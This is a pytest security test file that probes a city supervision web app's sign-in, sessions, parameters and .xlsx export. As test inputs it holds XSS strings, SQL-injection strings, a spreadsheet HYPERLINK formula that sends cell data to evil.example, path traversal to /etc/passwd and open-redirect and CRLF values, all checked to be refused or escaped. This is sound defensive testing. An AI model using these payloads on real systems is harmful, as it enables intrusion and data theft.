"""A hostile visitor against the city's supervision pages (/city): forged forms, stolen-cookie hygiene, password
guessing, odd period/district/station parameters, markup and formulas synced by a device, and paths in downloads.

The pages answer bad input with a 4xx and a specific Chinese message, never a 500; text a station synced is shown as
text on the pages and stays text in the .xlsx return."""

import re
import uuid
from datetime import timedelta
from io import BytesIO
from urllib.parse import quote, unquote

import httpx
import pytest
from markupsafe import escape
from openpyxl import load_workbook
from sqlalchemy import select, update

from heze_station.domain import chinatime
from heze_station.domain.ids import new_id
from heze_station.server.config import Settings
from heze_station.server.models import Station, WebSession
from heze_station.server.web import accounts

from .conftest import Server, migrated_database, serve_in_thread

NAME, PASSWORD = "市局督导", "正确的密码 correct horse"
MARKUP = '<script>alert("驿站")</script><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def sign_in_form(http: httpx.Client) -> str:
    page = http.get("/city/sign-in")
    assert page.status_code == 200
    return re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)


def post_sign_in(http: httpx.Client, password: str, name: str = NAME) -> httpx.Response:
    return http.post("/city/sign-in", data={"csrf": sign_in_form(http), "name": name, "password": password})


@pytest.fixture(params=["sqlite"])
def backend(request: pytest.FixtureRequest) -> str:
    """What these attacks try is refused before any database is asked, the same on both: SQLite only, but for the
    tests that store what was sent (marked to run on PostgreSQL too)."""
    return request.param


@pytest.fixture
def supervisor(server: Server) -> Server:
    with server.database.transaction() as session:
        accounts.create_supervisor(session, NAME, PASSWORD)
    return server


@pytest.fixture
def browser(supervisor: Server) -> httpx.Client:
    """A signed-in visitor (cookies kept as a browser keeps them)."""
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False, timeout=30)
    assert post_sign_in(http, PASSWORD).status_code == 303
    return http


def csrf_of(page: httpx.Response) -> str:
    return re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)


# --- forms, cookies and guessing ------------------------------------------------------------------------------------


def test_the_session_cookie_is_kept_from_scripts_other_sites_and_other_paths(supervisor: Server) -> None:
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
    signed = post_sign_in(http, PASSWORD)
    cookie = next(value for name, value in signed.headers.multi_items() if value.startswith("heze_city_session="))
    flags = {part.strip().split("=")[0].lower() for part in cookie.split(";")}
    assert {"httponly", "samesite", "path"} <= flags
    assert "max-age" not in flags  # it ends with the browser (a shared office computer); the server ends it later
    assert "samesite=strict" in cookie.lower()
    assert "path=/city" in cookie.lower()
    assert "secure" not in flags  # plain http on loopback: a Secure cookie would never come back


@pytest.mark.parametrize(
    "form",
    [
        {},
        {"csrf": ""},
        {"csrf": "forged"},
        {"csrf": "中文令牌"},
        {"csrf": "\x00" * 64},
    ],
)
def test_a_forged_sign_out_is_refused_and_the_session_stays(browser: httpx.Client, form: dict) -> None:
    answer = browser.post("/city/sign-out", data=form)
    assert answer.status_code == 403
    assert "请刷新页面后重试" in answer.text
    assert browser.get("/city/").status_code == 200


def test_a_sign_in_from_another_site_is_refused(supervisor: Server) -> None:
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
    answer = http.post("/city/sign-in", data={"csrf": "whatever", "name": NAME, "password": PASSWORD})
    assert answer.status_code == 403
    assert "没有执行任何操作" in answer.text
    assert "heze_city_session" not in answer.headers.get("set-cookie", "")


def test_the_sign_out_of_the_right_form_ends_the_session_for_its_copied_cookie(browser: httpx.Client) -> None:
    page = browser.get("/city/")
    copied = dict(browser.cookies)
    assert browser.post("/city/sign-out", data={"csrf": csrf_of(page)}).status_code == 303
    thief = httpx.Client(base_url=str(browser.base_url), cookies=copied, follow_redirects=False)
    assert thief.get("/city/").status_code == 303


def test_guessing_passwords_is_throttled_with_a_message_and_then_even_the_right_one_is_not_tried(
    supervisor: Server,
) -> None:
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
    allowed = supervisor.settings.auth_failures_allowed
    answers = [post_sign_in(http, f"猜测 {attempt}") for attempt in range(allowed + 1)]
    assert answers[0].status_code == 401
    assert "用户名或密码不正确" in answers[0].text
    assert answers[-1].status_code == 429
    assert "错误次数过多" in answers[-1].text
    right = post_sign_in(http, PASSWORD)
    assert right.status_code == 429
    assert "heze_city_session" not in right.headers.get("set-cookie", "")


def test_stations_wrong_tokens_from_the_bureaus_address_do_not_lock_its_supervisors_out(supervisor: Server) -> None:
    """Laptops behind the city's NAT share the supervisors' address: their failures are counted apart."""
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
    allowed = supervisor.settings.auth_failures_allowed
    guessed = [
        http.get("/v1/supervision/stations", headers={"Authorization": "Bearer bogus"}) for _ in range(allowed + 1)
    ]
    assert guessed[-1].status_code == 429
    signed = post_sign_in(http, PASSWORD)
    assert signed.status_code == 303
    assert "heze_city_session" in signed.headers.get("set-cookie", "")


@pytest.mark.parametrize("backend", ["sqlite", "postgresql"], indirect=True)  # values the database stores
@pytest.mark.parametrize("name", ["名" * 5000, "\x00", "' OR 1=1 --", "\u202e督导市"])
def test_an_odd_name_is_just_a_wrong_sign_in(supervisor: Server, name: str) -> None:
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
    answer = post_sign_in(http, "x", name=name)
    assert answer.status_code == 401, answer.text
    assert "用户名或密码不正确" in answer.text


def test_a_page_without_a_session_or_with_a_made_up_one_sends_to_sign_in(supervisor: Server) -> None:
    for cookies in ({}, {"heze_city_session": "made-up"}, {"heze_city_session": "a" * 4000}):
        http = httpx.Client(base_url=supervisor.url, cookies=cookies, follow_redirects=False)
        assert http.get("/city/").headers["location"] == "/city/sign-in"
        for path in ("/city/figures", "/city/overdue?district=%E7%89%A1", "/city/returns.xlsx?period=2026-11"):
            answer = http.get(path)
            # The form comes back to the page asked for.
            assert (answer.status_code, answer.headers["location"]) == (
                303,
                f"/city/sign-in?next={quote(path, safe='')}",
            )


@pytest.mark.parametrize(
    "wanted",
    ["https://evil.example/city/", "//evil.example/city/", "/city//evil.example", "/\\evil.example", "/city/sign-in",
     "/city/sign-out", "javascript:alert(1)", "/city/\r\nSet-Cookie:x=1", "/v1/sync/changes", " /city/figures",
     # Dot-segments, which the browser resolves to a path outside /city.
     "/city/../v1/supervision/stations", "/city/%2e%2e/v1/supervision/stations", "/city/./.%2E/v1/sync/changes"],
)  # fmt: skip
def test_a_sign_in_goes_nowhere_but_the_citys_own_pages(supervisor: Server, wanted: str) -> None:
    """A link to the sign-in form with another site as its page to come back to (a phishing mail): once signed in,
    the supervisor is on the stations page."""
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
    form = http.get("/city/sign-in", params={"next": wanted})
    assert 'name="next" value="/city/"' in form.text
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text).group(1)
    signed = http.post("/city/sign-in", data={"csrf": csrf, "name": NAME, "password": PASSWORD, "next": wanted})
    assert (signed.status_code, signed.headers["location"]) == (303, "/city/")


@pytest.fixture
def uncached(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every page looks its session up in the database: none is kept the few seconds a server process keeps it."""
    monkeypatch.setattr(accounts.RecentSessions, "SECONDS", 0.0)


@pytest.mark.usefixtures("uncached")
def test_a_session_ends_after_half_an_hour_without_a_page_and_the_form_says_why(
    supervisor: Server, browser: httpx.Client
) -> None:
    assert browser.get("/city/").status_code == 200
    with supervisor.database.transaction() as session:  # the supervisor left the desk 31 minutes ago
        session.execute(update(WebSession).values(seen_at=chinatime.now() - timedelta(minutes=31)))
    assert browser.get("/city/figures").headers["location"].startswith("/city/sign-in?next=")
    form = browser.get("/city/sign-in")
    assert "登录已结束（30分钟没有操作，或登录已满8小时），请重新登录。" in form.text
    assert browser.get("/city/").headers["location"] == "/city/sign-in"  # the ended session's cookie is gone
    assert "登录已结束" not in browser.get("/city/sign-in").text


@pytest.mark.usefixtures("uncached")
def test_a_page_within_the_half_hour_keeps_the_session_open(supervisor: Server, browser: httpx.Client) -> None:
    with supervisor.database.transaction() as session:
        session.execute(update(WebSession).values(seen_at=chinatime.now() - timedelta(minutes=29)))
    assert browser.get("/city/").status_code == 200
    with supervisor.database.reading() as session:
        seen = session.scalar(select(WebSession.seen_at))
    assert chinatime.now() - seen < timedelta(minutes=1)  # that page counts as its last


# --- parameters -----------------------------------------------------------------------------------------------------

PAGES = ("/city/figures", "/city/overdue", "/city/returns.xlsx")


@pytest.mark.parametrize(
    ("period", "message"),
    [
        ("2026-13", "不是一个期间"),
        ("2026-W99", "不是一个期间"),
        ("0000", "不是一个期间"),
        ("0001", "不是一个期间"),
        ("99999999999999999999", "不是一个期间"),
        ("2026-11\x00", "不是一个期间"),
        ("<script>", "不是一个期间"),
        ("2026" * 2000, "不是一个期间"),
        ("1900-01-01..2100-12-31", "超过一年"),
        ("2024-01-01..2025-01-01", "超过一年"),  # a year and a day
        # The calendar's last year (its weeks ran past the end: an error page) and years not of four digits.
        ("9999", "不是一个期间"),
        ("9999-12", "不是一个期间"),
        ("9999-Q4", "不是一个期间"),
        ("9999-12-25..9999-12-31", "不是一个期间"),
        ("0002-01", "不是一个期间"),
        ("2026-12-31..2026-01-01", "结束日期早于开始日期"),  # the dates the wrong way round: said so
    ],
)
def test_a_period_that_is_not_one_is_a_4xx_that_says_so(browser: httpx.Client, period: str, message: str) -> None:
    for path in ("/city/figures", "/city/returns.xlsx"):
        answer = browser.get(path, params={"period": period})
        assert answer.status_code == 422, (path, answer.status_code)
        assert message in answer.text, path
        assert "<script>" not in answer.text
        assert answer.headers["content-type"].startswith("text/html")
    page = browser.get("/city/figures", params={"period": period}).text
    assert re.search(r'name="period" value="([^"]*)"', page)[1] == escape(period)  # kept in the box, to be corrected


def test_a_link_to_the_return_leads_to_its_figures_page_once_signed_in(supervisor: Server) -> None:
    """Its download would leave the sign-in form on screen, spent: the figures of that period and scope link to it."""
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False)
    wanted = "/city/returns.xlsx?period=2026-11&district=&station="
    csrf = re.search(r'name="csrf" value="([^"]+)"', http.get("/city/sign-in", params={"next": wanted}).text)[1]
    signed = http.post("/city/sign-in", data={"csrf": csrf, "name": NAME, "password": PASSWORD, "next": wanted})
    assert signed.headers["location"] == "/city/figures?period=2026-11&district=&station="


@pytest.mark.parametrize("period", ["２０２６-１１", "٢٠٢٦-11"])
def test_a_period_in_other_digits_is_read_as_the_same_period(browser: httpx.Client, period: str) -> None:
    page = browser.get("/city/figures", params={"period": period})
    assert page.status_code == 200
    assert "2026年11月" in page.text
    download = browser.get("/city/returns.xlsx", params={"period": period})
    assert download.headers["content-disposition"].endswith("-2026-11.xlsx")


@pytest.mark.parametrize(
    ("parameters", "message"),
    [
        ({"station": "not-a-uuid"}, "不是驿站编号"),
        ({"station": "\x00"}, "不是驿站编号"),
        ({"station": "' OR 1=1 --"}, "不是驿站编号"),
        ({"station": str(uuid.UUID(int=0))}, "没有这个驿站"),
        ({"station": str(new_id())}, "没有这个驿站"),
        ({"district": "不存在区"}, "没有这个区县"),
        ({"district": "\x00"}, "没有这个区县"),
        ({"district": "<b>区</b>"}, "没有这个区县"),
        ({"district": "=1+1"}, "没有这个区县"),
        ({"district": "区" * 2_000}, "没有这个区县"),
    ],
)
def test_a_station_or_district_that_is_not_one_is_a_4xx_that_says_so(
    browser: httpx.Client, parameters: dict, message: str
) -> None:
    for path in PAGES:
        answer = browser.get(path, params=parameters)
        assert answer.status_code in (404, 422), (path, answer.status_code, answer.text[:300])
        assert message in answer.text, path
        assert "<b>区" not in answer.text


def test_the_pages_and_the_return_open_for_a_real_station_and_district(supervisor: Server, browser) -> None:
    station = supervisor.create_station("城区驿站")
    with supervisor.database.transaction() as session:
        session.get(Station, station).district = "牡丹区"
    for parameters in ({"station": str(station)}, {"district": "牡丹区"}, {"station": str(station).upper()}):
        for path in PAGES:
            assert browser.get(path, params=parameters).status_code == 200, (path, parameters)


@pytest.mark.usefixtures("uncached")  # the scope changed at the end is read at once, not within 5 seconds
def test_a_district_supervisor_reaches_no_other_districts_station_by_any_parameter(supervisor: Server) -> None:
    """A district bureau's supervisor: its stations on every page; another district's, asked for by id, district
    or in the return, are refused as if they did not exist, and the page shows the supervisor's district."""
    ours, theirs = supervisor.create_station("城区驿站"), supervisor.create_station("开发区驿站")
    with supervisor.database.transaction() as session:
        session.get(Station, ours).district = "牡丹区"
        session.get(Station, theirs).district = "开发区"
        accounts.create_supervisor(session, "区局督导", PASSWORD, district="牡丹区")
    http = httpx.Client(base_url=supervisor.url, follow_redirects=False, timeout=30)
    assert post_sign_in(http, PASSWORD, name="区局督导").status_code == 303
    stations = http.get("/city/").text
    assert "城区驿站" in stations
    assert "开发区驿站" not in stations
    for path in PAGES:
        page = http.get(path)
        assert page.status_code == 200, path
        assert "开发区" not in page.text, path  # neither the station nor the district is offered
        for parameters, message in (
            ({"station": str(theirs)}, "没有这个驿站"),
            ({"district": "开发区"}, "没有这个区县"),
        ):
            refused = http.get(path, params=parameters)
            assert refused.status_code == 422, (path, parameters)
            assert message in refused.text
            assert "开发区驿站" not in refused.text
    assert "已显示牡丹区。" in http.get("/city/figures", params={"district": "开发区"}).text
    named = unquote(http.get("/city/returns.xlsx").headers["content-disposition"])
    assert named.endswith(f"牡丹区-月调度-{chinatime.today():%Y-%m}.xlsx")  # the supervisor's district's return
    for parameters in ({"station": str(ours)}, {"district": "牡丹区"}, {}):
        assert http.get("/city/overdue", params=parameters).status_code == 200, parameters
    with supervisor.database.transaction() as session:  # set-supervisor-district 区局督导 "": the whole city's
        accounts.set_district(session, "区局督导", "")
    assert "开发区驿站" in http.get("/city/").text


@pytest.mark.parametrize(
    "path",
    ["/city/../v1/sync/changes", "/city/returns.xlsx/../../etc/passwd", "/city/%2e%2e/%2e%2e/etc/passwd",
     "/city/returns.xlsx%00.html", "/city/..%2f..%2fpyproject.toml"],
)  # fmt: skip
def test_no_path_reaches_outside_the_pages(browser: httpx.Client, path: str) -> None:
    answer = browser.get(path)
    assert answer.status_code in (303, 401, 404, 405), answer.status_code
    assert "root:" not in answer.text
    assert "[project]" not in answer.text


@pytest.mark.parametrize(
    ("method", "path", "status", "message"),
    [
        ("GET", "/city/nothing", 404, "没有这个页面"),
        ("PUT", "/city/figures", 405, "不接受这样的请求"),
        ("DELETE", "/city/sign-in", 405, "不接受这样的请求"),
    ],
)
def test_a_wrong_address_or_method_is_told_in_chinese_on_a_page(
    browser: httpx.Client, method: str, path: str, status: int, message: str
) -> None:
    answer = browser.request(method, path)
    assert answer.status_code == status
    assert answer.headers["content-type"].startswith("text/html")
    assert message in answer.text
    assert 'href="/city/"' in answer.text


def test_the_api_is_not_described_to_whoever_asks(browser: httpx.Client) -> None:
    """Its description is docs/openapi.json; a browsable page would also fetch its script from the internet."""
    for path in ("/docs", "/redoc", "/openapi.json", "/docs/oauth2-redirect"):
        answer = browser.get(path)
        assert answer.status_code == 404, path
        assert "paths" not in answer.text, path


def test_a_load_balancer_probes_the_health_with_head(browser: httpx.Client) -> None:
    assert browser.head("/health").status_code == 200
    assert browser.get("/v1/nothing").json()["error"]["code"] == "not_found"  # stations still get their codes


def test_the_return_is_named_by_its_period_whatever_was_asked(browser: httpx.Client) -> None:
    answer = browser.get("/city/returns.xlsx", params={"period": "2026-11"})
    assert answer.status_code == 200
    disposition = answer.headers["content-disposition"]
    assert disposition.startswith("attachment; filename*=UTF-8''")
    assert "/" not in disposition.partition("''")[2]
    assert disposition.endswith(f"{quote('全市-月调度')}-2026-11.xlsx")


# --- what a device synced, on the pages and in the return -----------------------------------------------------------


@pytest.fixture
def hostile_station(supervisor: Server) -> uuid.UUID:
    """A station named with markup whose laptop synced a case and a project named with markup and a formula: the case
    is overdue, and received this month."""
    station = supervisor.create_station(FORMULA)
    with supervisor.database.transaction() as session:
        session.get(Station, station).district = "@SUM(1+1)"
    laptop = supervisor.device(station)
    project = new_id()
    today = chinatime.today()
    laptop.push_ok(
        laptop.transaction(
            laptop.op("project", project, {"name": FORMULA}),
            laptop.op("case_file", new_id(), {"number": MARKUP[:40], "respondent_summary": MARKUP,
                                              "status": "accepted", "project_id": str(project),
                                              "received_on": (today - timedelta(days=60)).isoformat()}),
            laptop.op("case_file", new_id(), {"number": "-2+3", "respondent_summary": FORMULA,
                                              "status": "accepted", "project_id": str(project),
                                              "received_on": today.isoformat()}),
        )
    )  # fmt: skip
    with supervisor.database.transaction() as session:
        session.get(Station, supervisor.create_station(MARKUP)).district = "<i>牡丹区</i>"
    return station


def test_markup_synced_by_a_device_is_shown_as_text(browser: httpx.Client, hostile_station: uuid.UUID) -> None:
    for path in ("/city/", "/city/overdue", "/city/figures", f"/city/figures?station={hostile_station}"):
        page = browser.get(path)
        assert page.status_code == 200, path
        assert "<script>" not in page.text, path
        assert "<img" not in page.text, path
    assert "&lt;script&gt;" in browser.get("/city/overdue").text


def test_a_formula_synced_by_a_device_stays_text_in_the_return(
    browser: httpx.Client, hostile_station: uuid.UUID
) -> None:
    for parameters in ({}, {"station": str(hostile_station)}, {"district": "@SUM(1+1)"}):
        answer = browser.get("/city/returns.xlsx", params=parameters)
        assert answer.status_code == 200, (parameters, answer.text[:300])
        workbook = load_workbook(BytesIO(answer.content))
        texts = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.coordinate for cell in texts if cell.data_type == "f"]
        shown = {str(cell.value) for cell in texts}
        assert any(FORMULA in value for value in shown), parameters  # the name is there, as text


DIRECTION_MARKS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"


def test_direction_marks_in_a_name_an_older_server_stored_reverse_no_heading(
    supervisor: Server, browser: httpx.Client
) -> None:
    """A right-to-left override in a station's or district's name turned the rest of the heading and of the return's
    first cell round ("2026年11月" read "月11年6202"): the names are shown without them."""
    station = supervisor.create_station(f"\u202e城区{DIRECTION_MARKS}驿站")
    with supervisor.database.transaction() as session:
        session.get(Station, station).district = "\u202e牡丹区"
    for parameters, name in (({"station": str(station)}, "城区驿站"), ({"district": "\u202e牡丹区"}, "牡丹区")):
        page = browser.get("/city/figures", params={"period": "2026-11", **parameters})
        assert re.search("<h2>(.*?)</h2>", page.text)[1] == f"<bdi>{name}</bdi> · 2026年11月", parameters
        workbook = load_workbook(BytesIO(browser.get("/city/returns.xlsx", params=parameters).content))
        assert workbook.worksheets[0]["A1"].value.startswith(f"{name}　"), parameters
    listed = browser.get("/city/").text
    assert ">城区驿站</a></td>" in listed
    assert "<td>牡丹区</td>" in listed


def test_the_first_years_figures_offer_no_period_before_them(browser: httpx.Client) -> None:
    """1900 is the first year with figures: its page links no 上一期 that would only be refused; 1901's does."""
    assert "上一期" not in browser.get("/city/figures", params={"period": "1900"}).text
    assert "上一期" not in browser.get("/city/figures", params={"period": "1900-01"}).text
    assert re.search(r'period=1900[^"]*">上一期', browser.get("/city/figures", params={"period": "1901"}).text)


def test_the_servers_bare_address_leads_to_the_citys_pages(supervisor: Server) -> None:
    answer = httpx.get(supervisor.url + "/", follow_redirects=False)
    assert (answer.status_code, answer.headers["location"]) == (303, "/city/")


def test_wrong_passwords_for_a_name_from_elsewhere_do_not_lock_its_supervisor_out(settings: Settings) -> None:
    """A few wrong passwords typed for 市局督导 from other addresses (behind the city's proxy, which names them) must
    not keep the supervisor out; guessing at the name from many addresses is still held back, later."""
    database = migrated_database(settings)
    with database.transaction() as session:
        accounts.create_supervisor(session, NAME, PASSWORD)
    running, thread, url = serve_in_thread(settings, database, forwarded_allow_ips="127.0.0.1")
    allowed = settings.auth_failures_allowed

    def from_address(address: str) -> httpx.Client:
        return httpx.Client(base_url=url, follow_redirects=False, headers={"X-Forwarded-For": address})

    try:
        for number in range(allowed * 2):
            assert post_sign_in(from_address(f"203.0.113.{number}"), "猜测").status_code == 401
        assert post_sign_in(from_address("198.51.100.7"), PASSWORD).status_code == 303

        # Ten times as many, from as many addresses: the name waits too, even for the right password.
        for number in range(allowed * 10):
            post_sign_in(from_address(f"192.0.2.{number}"), "猜测")
        assert post_sign_in(from_address("198.51.100.8"), PASSWORD).status_code == 429
    finally:
        running.should_exit = True
        thread.join()
        database.close()
